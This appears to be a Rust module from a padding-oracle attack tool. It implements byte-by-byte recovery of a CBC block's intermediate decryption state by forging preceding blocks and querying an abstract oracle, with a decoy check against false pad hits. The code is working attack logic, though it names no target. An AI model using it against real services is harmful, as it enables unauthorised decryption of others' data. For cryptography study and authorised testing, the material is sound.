// Recovery of one block's intermediate state, D(C), through a padding oracle.
//
// CBC decryption computes P = D(C) ⊕ X where X is the block in front of C.
// If we put C behind a block F that we control, the oracle tells us whether
// D(C) ⊕ F ends in valid padding.
//
// To find the last byte of D(C) we try every value g for F[B-1]. When the
// oracle says the padding is valid, the most likely reason is that
// D(C)[B-1] ⊕ g = 0x01, giving D(C)[B-1] = g ⊕ 0x01. It is not the only
// reason: if D(C)[B-2] ⊕ F[B-2] happens to be 0x02, then g with
// D(C)[B-1] ⊕ g = 0x02 is also accepted. So for the last byte every hit is
// checked again with F[B-2] changed. A genuine 0x01 pad does not care about
// the byte in front of it; a longer accidental pad does.
//
// With the last p-1 bytes of D(C) known we can set those bytes of F so they
// decrypt to p, then scan F[B-p] for a hit exactly as above. Only one value
// of F[B-p] can make the whole tail read p, so no second check is needed.
use crate::{AttackError, Block, OracleError, PaddingOracle, ScanStrategy};

use rayon::prelude::*;
use tracing::{instrument, trace};

const DECOY_MASK: u8 = 0xFF;

/// Intermediate state of one block, solved from the last byte towards the
/// first. Solving in any other order is a bug and panics.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IntermediateState<const N: usize> {
    bytes: Block<N>,
    solved: usize,
}

impl<const N: usize> Default for IntermediateState<N> {
    fn default() -> Self {
        Self::new()
    }
}

impl<const N: usize> IntermediateState<N> {
    pub fn new() -> Self {
        const {
            assert!(
                N > 0 && N <= u8::MAX as usize,
                "block size must fit in a padding byte"
            )
        };
        Self {
            bytes: [0u8; N],
            solved: 0,
        }
    }

    pub fn solved(&self) -> usize {
        self.solved
    }

    pub fn is_complete(&self) -> bool {
        self.solved == N
    }

    /// Index of the next byte to solve.
    pub fn next_position(&self) -> Option<usize> {
        (!self.is_complete()).then(|| N - self.solved - 1)
    }

    /// The block to put in front of the target when looking for pad value
    /// `pad`: every solved byte is set so that it decrypts to `pad`, the
    /// rest are zero.
    pub fn forged_block(&self, pad: u8) -> Block<N> {
        assert_eq!(
            pad as usize,
            self.solved + 1,
            "pad value {pad} needs exactly {} solved bytes, have {}",
            pad as usize - 1,
            self.solved
        );
        let mut forged = [0u8; N];
        for pos in (N - self.solved)..N {
            forged[pos] = self.bytes[pos] ^ pad;
        }
        forged
    }

    pub fn solve(&mut self, position: usize, value: u8) {
        assert_eq!(
            Some(position),
            self.next_position(),
            "intermediate bytes must be solved from the last index down"
        );
        self.bytes[position] = value;
        self.solved += 1;
    }

    pub fn into_block(self) -> Block<N> {
        assert!(self.is_complete(), "intermediate state is incomplete");
        self.bytes
    }
}

/// Recover D(`target`) using only the oracle. `block` is the index of
/// `target` in its ciphertext and is only used for reporting.
#[instrument(level = "debug", skip(oracle, target))]
pub fn recover_intermediate<O, const N: usize>(
    oracle: &O,
    target: &Block<N>,
    block: usize,
    scan: ScanStrategy,
) -> Result<Block<N>, AttackError>
where
    O: PaddingOracle<N> + ?Sized,
{
    let mut state = IntermediateState::<N>::new();
    for pad in 1..=N as u8 {
        let position = N - pad as usize;
        let forged = state.forged_block(pad);
        let guess = match scan {
            ScanStrategy::Sequential => scan_sequential(oracle, &forged, target, position, pad),
            ScanStrategy::Parallel => scan_parallel(oracle, &forged, target, position, pad),
        }?;
        let guess = guess.map_err(|rejected| no_candidate(block, position, rejected))?;
        state.solve(position, guess ^ pad);
        trace!(position, value = guess ^ pad, "recovered intermediate byte");
    }
    Ok(state.into_block())
}

// The outer result is the oracle failing, the inner is the scan failing, with
// the oracle hits that did not survive confirmation.
type ScanResult = Result<Result<u8, Vec<u8>>, OracleError>;

fn scan_sequential<O, const N: usize>(
    oracle: &O,
    forged: &Block<N>,
    target: &Block<N>,
    position: usize,
    pad: u8,
) -> ScanResult
where
    O: PaddingOracle<N> + ?Sized,
{
    let mut rejected = Vec::new();
    for guess in 0..=u8::MAX {
        if !query(oracle, forged, target, position, guess)? {
            continue;
        }
        if confirm(oracle, forged, target, position, pad, guess)? {
            return Ok(Ok(guess));
        }
        rejected.push(guess);
    }
    Ok(Err(rejected))
}

fn scan_parallel<O, const N: usize>(
    oracle: &O,
    forged: &Block<N>,
    target: &Block<N>,
    position: usize,
    pad: u8,
) -> ScanResult
where
    O: PaddingOracle<N> + ?Sized,
{
    let answers: Vec<Result<Option<u8>, OracleError>> = (0..=u8::MAX)
        .into_par_iter()
        .map(|guess| {
            query(oracle, forged, target, position, guess).map(|valid| valid.then_some(guess))
        })
        .collect();
    let hits = answers
        .into_iter()
        .collect::<Result<Vec<_>, _>>()?
        .into_iter()
        .flatten();

    let mut rejected = Vec::new();
    for guess in hits {
        if confirm(oracle, forged, target, position, pad, guess)? {
            return Ok(Ok(guess));
        }
        rejected.push(guess);
    }
    Ok(Err(rejected))
}

fn query<O, const N: usize>(
    oracle: &O,
    forged: &Block<N>,
    target: &Block<N>,
    position: usize,
    guess: u8,
) -> Result<bool, OracleError>
where
    O: PaddingOracle<N> + ?Sized,
{
    let mut candidate = *forged;
    candidate[position] = guess;
    oracle.check(&candidate, target)
}

/// A hit for pad 1 is only genuine if it survives changing the byte in front
/// of it. Hits for longer pads are always genuine.
fn confirm<O, const N: usize>(
    oracle: &O,
    forged: &Block<N>,
    target: &Block<N>,
    position: usize,
    pad: u8,
    guess: u8,
) -> Result<bool, OracleError>
where
    O: PaddingOracle<N> + ?Sized,
{
    if pad != 1 || N < 2 {
        return Ok(true);
    }
    let mut decoy = *forged;
    decoy[position] = guess;
    decoy[N - 2] ^= DECOY_MASK;
    oracle.check(&decoy, target)
}

fn no_candidate(block: usize, position: usize, rejected: Vec<u8>) -> AttackError {
    if rejected.is_empty() {
        AttackError::CandidateNotFound { block, position }
    } else {
        AttackError::AmbiguityUnresolved {
            block,
            candidates: rejected,
        }
    }
}
